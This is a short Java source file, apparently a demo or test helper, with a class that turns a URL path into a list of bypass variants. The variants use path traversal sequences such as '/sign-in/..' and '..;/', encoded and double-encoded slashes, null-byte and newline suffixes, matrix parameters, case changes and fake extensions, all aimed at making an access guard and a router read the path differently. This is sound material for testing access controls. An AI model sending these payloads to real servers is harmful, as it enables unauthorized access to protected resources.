package org.waymark.demo;

import java.util.ArrayList;
import java.util.List;

/** Ways to write an address so that a careless guard and a careless reader understand different things. */
final class Tricks {

    private Tricks() {}

    static List<String> of(String address) {
        int last = address.lastIndexOf('/');
        String first = address.substring(1).contains("/") ? address.substring(0, address.indexOf('/', 1)) : address;
        String rest = address.substring(first.length());
        List<String> tricks = new ArrayList<>(List.of(
                address + "/",
                address + ";x=1",
                first + ";x=1" + rest,
                first + ";" + rest,
                "/" + address,
                first + "/" + (rest.isEmpty() ? "/" : rest),
                address + "/.",
                "/sign-in/.." + address,
                "/forms/%2e%2e" + address,
                "/forms/..%2f" + address.substring(1),
                "/libraries/..;/" + address.substring(1),
                (last == 0 ? "/x" : address.substring(0, last)) + "%2f" + address.substring(last + 1),
                (last == 0 ? "/x" : address.substring(0, last)) + "%5c" + address.substring(last + 1),
                (last == 0 ? "/x" : address.substring(0, last)) + "%252f" + address.substring(last + 1),
                address + "%00",
                address + "%20",
                address + "%0a",
                address + ".css",
                address + ".ics"));
        String upper = first.toUpperCase(java.util.Locale.ROOT) + rest;
        if (!upper.equals(address)) {
            tricks.add(upper);
        }
        tricks.add("/%" + Integer.toHexString(address.charAt(1)) + address.substring(2));
        return tricks;
    }
}
